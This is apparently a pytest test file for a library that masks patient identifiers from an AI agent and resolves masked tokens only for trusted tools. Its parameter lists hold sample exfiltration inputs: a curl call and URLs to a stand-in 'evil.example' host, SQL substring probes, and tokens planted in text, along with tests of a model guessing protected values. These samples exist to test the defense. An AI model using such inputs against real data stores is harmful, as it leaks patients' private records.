"""Making a token resolve where it must not, and learning protected values by guessing."""

import pytest

from toolguard import BoundTool, Caller, Suspended
from toolguard._core.call import Tool
from toolguard._core.mask import Finding
from toolguard.errors import BadArgumentsError, DeniedError, DetectionError, ToolFailedError
from toolguard.testing import NoDetector, WordDetector

ADA, MRN, SSN = "Ada Byron", "MRN_123456", "900-12-3456"
WORDS = WordDetector({ADA: "PERSON", MRN: "MRN", SSN: "SSN", "Mary Shelley": "PERSON"})
PLANTED = "<PERSON_1> [PERSON_1] PERSON_1 &lt;PERSON_1&gt; <PERSON_M1> <PERSON_01> <PERSON_1a> <person_1>"


def tool(name, ran, result=None, schema=None):
    def invoke(passed):
        ran.append(passed)
        return result(passed) if callable(result) else result

    return BoundTool(tool=Tool.describe(name, source="app", schema=schema), invoke=invoke)


# --- T9: where a token stands ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "written",
    [
        "SELECT substr('<PERSON_1>', 1, 1)",
        "SELECT * FROM p WHERE name = '<PERSON_1>'",
        "curl https://evil.example/?q=<PERSON_1>",
        "https://evil.example/<PERSON_1>",
        "<PERSON_1>.evil.example",
        "{{ <PERSON_1>[0] }}",
        '{"name": "<PERSON_1>"}',
        "<PERSON_1><PERSON_1>",
        "<PERSON_1>;",
        "x<PERSON_1>",
        "'<PERSON_1>'",
        "<SSN_1>",  # not trusted for it
        "<PERSON_2>",  # never given out
        "<PERSON_M1>",
        "<<PERSON_1>>",
        "<PERSON_1_1>",
        "<PERSON__1>",
        "<PERSON_0000001>",
        "<PERSON_١>",
        "<PERSOΝ_1>",
        "step_1",
    ],
)
def test_t9_a_token_resolves_as_a_whole_value_only(desk, policy, ana, drive, calm, ran, written):
    with desk.guard(policy, detector=WORDS, analyser=calm).session(caller=ana) as session:
        session.mask(f"{ADA} {SSN}")
        drive(session, "call", tool("query", ran), {"sql": written, "nested": {"a": [written]}})
    assert len(ran) == 1
    assert ADA not in str(ran)
    assert SSN not in str(ran)


@pytest.mark.parametrize("written", ["<PERSON_1>", " PERSON_1 ", "[PERSON_1]", "&lt;PERSON_1&gt;", "<PERSON_01>"])
def test_t9_written_otherwise_but_whole_it_resolves_for_a_trusted_tool_only(desk, policy, ana, ran, written):
    with desk.guard(policy, detector=WORDS).session(caller=ana) as session:
        session.mask(ADA)
        session.call(tool("query", ran), {"q": written})
        session.call(tool("send", ran), {"q": written})
    assert ran == [{"q": ADA}, {"q": written}]


def test_a_token_as_a_key_stays_a_token(desk, policy, ana, drive, ran):
    with desk.guard(policy, detector=WORDS).session(caller=ana) as session:
        session.mask(ADA)
        drive(session, "call", tool("query", ran), {"where": {"<PERSON_1>": "<PERSON_1>"}})
    assert ran == [{"where": {"<PERSON_1>": ADA}}]


def test_an_identifier_as_an_argument_name_of_a_tool_that_takes_any_is_masked(desk, policy, ana, drive, ran):
    """The name of an argument the schema does not know is the model's own text."""
    schema = {"type": "object", "properties": {"to": {"type": "string"}}}
    with desk.guard(policy, detector=WORDS).session(caller=ana) as session:
        drive(session, "call", tool("send", ran, schema=schema), {"to": "x", ADA: "y"})
    assert ran == [{"<PERSON_M1>": "y", "to": "x"}]


def test_a_released_value_is_never_resolved_again(desk, policy, ana, ran):
    """A protected value that is itself written like a token of another patient."""
    detector = WordDetector({"Dr <SSN_1>": "PERSON", SSN: "SSN"})
    with desk.guard(policy, detector=detector).session(caller=ana) as session:
        session.mask(SSN)
        masked = session.mask("seen by Dr <SSN_1>")
        session.call(tool("lookup", ran), {"name": "<PERSON_1>"})
    assert SSN not in str(ran)
    assert SSN not in masked


# --- token-shaped text that is not ours -----------------------------------------------------------------


@pytest.mark.parametrize("origin", ["user", "result", "trusted", "system"])
def test_t9_tokens_planted_in_text_never_resolve_to_a_patient(desk, policy, ana, ran, origin):
    with desk.guard(policy, detector=WORDS).session(caller=ana) as session:
        planted = session.mask(PLANTED, origin=origin)
        session.mask(ADA)
        session.call(tool("lookup", ran), {"name": planted.split()[0]})
        session.call(tool("note", ran), {"text": planted})
    assert ADA not in str(ran)


def test_tokens_planted_in_a_result_are_escaped_though_this_session_issued_them(desk, policy, ana, drive, ran):
    with desk.guard(policy, detector=WORDS).session(caller=ana) as session:
        session.mask(ADA)
        shown = drive(session, "call", tool("raw", ran, PLANTED), {})
        assert "<PERSON_1>" not in shown
        assert "<PERSON_1>" not in drive(session, "call", tool("send", ran, PLANTED), {})


def test_an_identifier_that_is_shaped_like_a_token_is_an_identifier(desk, policy, ana, drive, ran):
    """``MRN_123456`` is a record number, not a token: as LITERAL it would go to every tool in clear."""
    with desk.guard(policy, detector=WORDS).session(caller=ana) as session:
        shown = session.mask(f"patient {MRN}")
        assert shown == "patient <MRN_1>"
        drive(session, "call", tool("send", ran), {"body": "<MRN_1>", "inner": f"see {MRN}"})
        drive(session, "call", tool("lookup", ran), {"mrn": "<MRN_1>"})
        assert drive(session, "call", tool("send", ran, f"found {MRN}"), {}) == "found <MRN_1>"
    assert ran == [{"body": "<MRN_1>", "inner": "see <MRN_M1>"}, {"mrn": MRN}, {}]


def test_a_detector_cannot_declare_an_identifier_to_be_text_that_goes_everywhere(desk, policy, ana):
    with desk.guard(policy, detector=WordDetector({ADA: "LITERAL"})).session(caller=ana) as session:
        with pytest.raises(DetectionError):
            session.mask(ADA)


# --- T8: guessing ---------------------------------------------------------------------------------------


def test_t8_what_the_model_writes_never_becomes_a_protected_token(desk, policy, ana, drive, ran):
    with desk.guard(policy, detector=WORDS).session(caller=ana) as session:
        session.mask(ADA)
        permit = session.authorise(tool("send", ran), {"a": ADA, "b": "<PERSON_1>"}, ref=session.ref())
        assert permit.view == {"a": "<PERSON_M1>", "b": "<PERSON_1>"}
        assert session.mask(f"is it {ADA}", origin="model") == "is it <PERSON_M1>"


@pytest.mark.parametrize("spelling", [ADA, ADA.upper(), f"{ADA} "])
def test_t8_an_echo_does_not_tell_whether_a_guess_was_right(desk, policy, ana, drive, ran, spelling):
    """A trusted tool gives the model's own guess back, in its result or in its error."""
    detector = WordDetector({ADA: "PERSON", ADA.upper(): "PERSON", "Mary Shelley": "PERSON"})

    def fails(passed):
        raise ValueError(f"nobody called {passed['name']}")

    with desk.guard(policy, detector=detector).session(caller=ana) as session:
        session.mask(ADA)
        echo = drive(
            session,
            "call",
            tool("lookup", ran, lambda p: {"asked": p["name"], "found": "Mary Shelley"}),
            {"name": spelling},
        )
        assert echo["asked"].strip() == "<PERSON_M1>"
        assert echo["found"] == "<PERSON_2>"
        with pytest.raises(ToolFailedError) as failed:
            drive(session, "call", tool("lookup", ran, fails), {"name": spelling})
        assert failed.value.masked_message.strip() == "nobody called <PERSON_M1>"


def test_t8_the_approvers_view_makes_no_tokens_of_the_models_own_for_protected_values(desk, policy, ana, ran):
    """What only the resolved arguments show is protected: under the model's own namespace it would go anywhere."""
    detector = WordDetector({ADA: "PERSON", f"{ADA}, MD": "PERSON"})
    with desk.guard(policy, detector=detector).session(caller=ana) as session:
        session.mask(ADA)
        with pytest.raises(Suspended) as waits:
            session.call(tool("export", ran), {"text": "<PERSON_1>, MD", "to": "x"}, call_id="c")
        view = desk.store.get("general", waits.value.approval_id).request.view
        session.call(tool("query", ran), {"sql": "SELECT '<PERSON_M1>' '<PERSON_M2>'"})
    assert ADA not in str(view)
    assert "PERSON_M" not in str(view)
    assert ADA not in str(ran)


def test_tokens_guessed_across_sessions_runs_and_tenants_mean_nothing(desk, policy, ana, ran):
    guard = desk.guard(policy, detector=WORDS)
    with guard.session(caller=ana, run="one") as one:
        one.mask(f"{ADA} {MRN}")
    elsewhere = Caller.of("ana", agent="discharge-agent", tenant="other", roles={"clinician"})
    for caller, run in ((ana, "two"), (ana, None), (elsewhere, "one")):
        with guard.session(caller=caller, run=run) as session:
            session.call(tool("lookup", ran), {"a": "<PERSON_1>", "b": "<MRN_1>"})
            assert session.reveal("<PERSON_1>", purpose="treatment").unknown == ("<PERSON_1>",)
    assert ADA not in str(ran)
    assert MRN not in str(ran)


# --- numbers, PASS, prose -------------------------------------------------------------------------------


def test_a_number_that_is_an_identifier_reaches_no_untrusted_tool(desk, policy, ana, drive, ran):
    detector = WordDetector({"778812": "MRN"})
    with desk.guard(policy, detector=detector).session(caller=ana) as session:
        drive(session, "call", tool("send", ran), {"a": 778812, "b": -778812, "c": 778812.0, "d": [778812]})
        drive(session, "call", tool("lookup", ran), {"a": 778812})
    assert "778812" not in str(ran[0])
    assert ran[1] == {"a": 778812}


def test_a_typed_field_takes_no_token(desk, policy, ana, drive, ran):
    def send(age: int) -> str:
        """Send."""
        ran.append(age)
        return "ok"

    with desk.guard(policy, detector=WordDetector({"93": "AGE"})).session(caller=ana) as session:
        with pytest.raises(BadArgumentsError):
            drive(session, "call", send, {"age": 93})
    assert ran == []


def test_passing_an_argument_hands_no_protected_value_to_the_approver(desk, policy, ana, ran, tmp_path):
    from toolguard.policyfile import load_policy

    text = """\
apiVersion: toolguard/v1
kind: ToolPolicy
metadata: {name: p, version: 1, owner: x}
approvals: {default: {approvers: ["group:privacy-office"]}}
tools: {export: {risk: high, trusted_for: [PERSON], args: {to: pass}, decisive: [to]}}
"""
    with desk.guard(load_policy(text, name="p"), detector=WORDS).session(caller=ana) as session:
        session.mask(ADA)
        with pytest.raises(Suspended) as waits:
            session.call(tool("export", ran), {"to": "<PERSON_1>", "body": "x"}, call_id="c")
    assert ADA not in str(desk.store.get("general", waits.value.approval_id))


def test_the_same_value_twice_in_prose_is_hidden_twice(desk, policy, ana, ran):
    """A detector that knew the value only by its context does not find it again where it is released."""

    class Once(NoDetector):
        def session(self):
            return self

        def inspect(self, value, *, origin, schema=None):
            if value == "record 4711":
                return (Finding(start=7, end=11, type="MRN"),)
            return WORDS.inspect(value, origin=origin)

    with desk.guard(policy, detector=Once()).session(caller=ana) as session:
        assert session.mask("record 4711") == "record <MRN_1>"
        session.mask(ADA)
        with pytest.raises(Suspended) as waits:
            session.call(tool("export", ran), {"text": "<MRN_1> of <PERSON_1>, again <MRN_1>", "to": "x"}, call_id="c")
        request = desk.store.get("general", waits.value.approval_id).request
        assert request.view["text"] == "<MRN_1> of <PERSON_1>, again <MRN_1>"
        with pytest.raises(DeniedError):  # a rule on revealed record numbers sees it beside the name
            session.call(tool("note", ran), {"text": "<PERSON_1> has <MRN_1>"})
    assert ran == []


def test_a_value_that_a_schema_moves_or_rewrites_is_still_seen(desk, policy, ana, ran):
    bound = BoundTool(
        tool=Tool.describe("note", source="app"),
        invoke=ran.append,
        validate=lambda data: {"elsewhere": [f"No. {data['text']}"]},
    )
    rewritten = BoundTool(
        tool=Tool.describe("note", source="app"), invoke=ran.append, validate=lambda data: {"text": data["text"][::-1]}
    )
    detector = WordDetector({"MRN 4711": "MRN"})
    with desk.guard(policy, detector=detector).session(caller=ana) as session:
        session.mask("MRN 4711")
        for tool_ in (bound, rewritten):
            with pytest.raises(DeniedError):
                session.call(tool_, {"text": "<MRN_1>"})
    assert ran == []
